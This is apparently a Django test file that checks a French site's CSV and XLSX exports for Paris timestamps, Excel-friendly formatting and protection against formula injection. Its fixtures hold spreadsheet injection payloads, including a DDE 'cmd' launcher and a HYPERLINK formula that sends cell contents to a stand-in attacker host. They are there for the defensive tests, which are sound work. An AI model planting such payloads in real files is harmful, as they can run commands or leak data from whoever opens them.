"""Every spreadsheet the site hands out, opened as French Excel reads it (#26 §5, #31 items 7 and
10): contact messages, subscribers and the « à vérifier » report from the admin, one person's
data, and the library's public CSV. Times in Paris time to the minute, « ; » and a BOM, XLSX
with real dates, no cell taken for a formula, and rows holding control characters exported
instead of failing the file."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from contact.models import ContactSubmission
from newsletters.models import Subscription
from pages.models import ContentCheck, HomePage
from tests.factories.contact import ContactPageFactory
from tests.factories.newsletters import NewsletterListFactory, SubscriberFactory, SubscriptionFactory
from tests.factories.publications import PublicationPageFactory

pytestmark = pytest.mark.django_db

# 09:00:00.123456 UTC in winter is 10:00 in Paris; 12:30 UTC in summer is 14:30.
WINTER = datetime.datetime(2026, 3, 2, 9, 0, 0, 123456, tzinfo=datetime.UTC)
SUMMER = datetime.datetime(2026, 7, 1, 12, 30, 45, tzinfo=datetime.UTC)
FORMULAS = {
    "nom": "@SUM(1+1)*cmd|' /C calc'!A0",
    "organisation": "+33 1 23 45 67 89",
    "message": '=HYPERLINK("https://pirate.example/?d="&A1,"Cliquez")',
}
CONTROL = '"a\\ b\x01"@example.org'  # accepted by Django's e-mail validator, refused by Excel's format


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode()), "no BOM: Excel would read the accents as Windows-1252"
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(response):
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [list(row) for row in sheet.iter_rows()]


def by_heading(rows: list[list]) -> list[dict]:
    heading = [cell.value if hasattr(cell, "value") else cell for cell in rows[0]]
    return [dict(zip(heading, row, strict=True)) for row in rows[1:]]


def received(contact, when: datetime.datetime, **form_data) -> ContactSubmission:
    data = {
        "nom": "Camille Martin",
        "courriel": "camille@example.org",
        "objet": "Presse",
        "message": "Bonjour.",
        **form_data,
    }
    submission = ContactSubmission.objects.create(
        page=contact, form_data=data, email=data["courriel"], subject="Presse"
    )
    ContactSubmission.objects.filter(pk=submission.pk).update(submit_time=when)
    return submission


@pytest.fixture
def contact(db):
    return ContactPageFactory()


def test_contact_messages_open_in_french_excel_with_paris_times_and_no_formula(admin_client, contact):
    received(contact, WINTER)
    received(contact, SUMMER, courriel="lea@example.org", **FORMULAS)
    url = f"/admin/forms/submissions/{contact.pk}/"

    rows = by_heading(read_csv(admin_client.get(url, {"export": "csv"})))
    assert [row["Date de soumission"] for row in rows] == ["02/03/2026 10:00", "01/07/2026 14:30"]
    assert rows[1]["Nom"] == "'" + FORMULAS["nom"]
    assert rows[1]["Organisation"] == "'" + FORMULAS["organisation"]
    assert rows[1]["Message"] == "'" + FORMULAS["message"]
    assert rows[0]["Message"] == "Bonjour."  # nothing added where nothing is at risk

    cells = by_heading(read_xlsx(admin_client.get(url, {"export": "xlsx"})))
    moment = cells[1]["Date de soumission"]
    assert moment.value == datetime.datetime(2026, 7, 1, 14, 30) and moment.number_format == "dd/mm/yyyy hh:mm"
    for name in ("Nom", "Organisation", "Message"):
        cell = cells[1][name]
        assert cell.value == FORMULAS[name.lower()], name  # as typed, read as text by Excel
        assert cell.data_type == "s" and cell.quotePrefix, name
    assert not cells[0]["Nom"].quotePrefix


def test_a_message_holding_control_characters_no_longer_breaks_the_excel_export(admin_client, contact):
    """Stored before input refused them: the file still comes, the characters shown as « � »."""
    received(contact, WINTER, courriel=CONTROL, nom="Camille\x0bMartin\x1c")
    url = f"/admin/forms/submissions/{contact.pk}/"
    cells = by_heading(read_xlsx(admin_client.get(url, {"export": "xlsx"})))
    assert cells[0]["Courriel"].value == '"a\\ b\ufffd"@example.org'
    assert cells[0]["Nom"].value == "Camille\ufffdMartin\ufffd"
    assert by_heading(read_csv(admin_client.get(url, {"export": "csv"})))[0]["Nom"] == "Camille\ufffdMartin\ufffd"


def test_subscribers_export_the_same_way(admin_client):
    newsletter = NewsletterListFactory(name="La quotidienne")
    SubscriptionFactory(
        subscriber=SubscriberFactory(email="lea@example.org"),
        newsletter=newsletter,
        status=Subscription.Status.CONFIRMED,
        confirmed_at=SUMMER,
        consent_text="=1+1",
    )
    SubscriptionFactory(subscriber=SubscriberFactory(email=CONTROL), newsletter=newsletter)
    Subscription.objects.update(requested_at=WINTER)

    rows = by_heading(read_csv(admin_client.get("/admin/abonnes/", {"export": "csv"})))
    lea = next(row for row in rows if row["Courriel"] == "lea@example.org")
    assert (lea["Demandée le"], lea["Consentement confirmé le"]) == ("02/03/2026 10:00", "01/07/2026 14:30")
    assert lea["Texte accepté"] == "'=1+1"

    cells = by_heading(read_xlsx(admin_client.get("/admin/abonnes/", {"export": "xlsx"})))
    assert {row["Courriel"].value for row in cells} == {"lea@example.org", '"a\\ b\ufffd"@example.org'}
    lea = next(row for row in cells if row["Courriel"].value == "lea@example.org")
    assert lea["Consentement confirmé le"].value == datetime.datetime(2026, 7, 1, 14, 30)
    assert lea["Texte accepté"].quotePrefix


def test_the_content_checks_report_exports_the_same_way(moderator_client, time_machine):
    time_machine.move_to(SUMMER, tick=False)
    ContentCheck.objects.create(page=HomePage.objects.get(), note="-1 000 adhérents : chiffre à confirmer")
    url = "/admin/rapports/a-verifier/"
    response = moderator_client.get(url, {"export": "csv"})
    assert 'filename="contenus-a-verifier.csv"' in response["Content-Disposition"]
    [row] = by_heading(read_csv(response))
    assert row["Signalé le"] == "01/07/2026 14:30"
    assert row["À vérifier"] == "'-1 000 adhérents : chiffre à confirmer"
    [cells] = by_heading(read_xlsx(moderator_client.get(url, {"export": "xlsx"})))
    assert cells["Signalé le"].value == datetime.datetime(2026, 7, 1, 14, 30)


def test_one_persons_data_downloads_as_a_sheet_to_read_besides_json(moderator_client, contact):
    received(contact, WINTER, courriel="lea@example.org", message="=1+1\nBien à vous")
    url = "/admin/donnees-personnelles/"
    response = moderator_client.get(url, {"courriel": "lea@example.org", "format": "csv"})
    assert response["Content-Disposition"].startswith('attachment; filename="donnees-lea-example-org-')
    rows = read_csv(response)
    assert rows[0] == ["Rubrique", "N°", "Information", "Valeur"]
    message = [row[2:] for row in rows if row[0] == "Message du formulaire de contact"]
    assert ["Reçu le", "02/03/2026 10:00"] in message
    assert ["Nom", "Camille Martin"] in message  # the form's own label, not its field name
    assert ["Message", "'=1+1\nBien à vous"] in message

    cells = read_xlsx(moderator_client.get(url, {"courriel": "lea@example.org", "format": "xlsx"}))
    received_on = next(row[3] for row in cells if row[2].value == "Reçu le")
    assert received_on.value == datetime.datetime(2026, 3, 2, 10, 0)
    page = moderator_client.get(url, {"courriel": "lea@example.org"}).content.decode()
    assert "format=csv" in page and "format=xlsx" in page and "format=json" in page


def test_the_librarys_csv_never_hands_a_spreadsheet_a_formula(client):
    PublicationPageFactory(title='=HYPERLINK("https://pirate.example","Télécharger")', summary="@SUM(A1:A9)")
    response = client.get("/publications/export.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    [row] = [row for row in rows if "HYPERLINK" in row["titre"]]
    assert row["titre"] == """'=HYPERLINK("https://pirate.example","Télécharger")"""
    assert row["résumé"] == "'@SUM(A1:A9)"
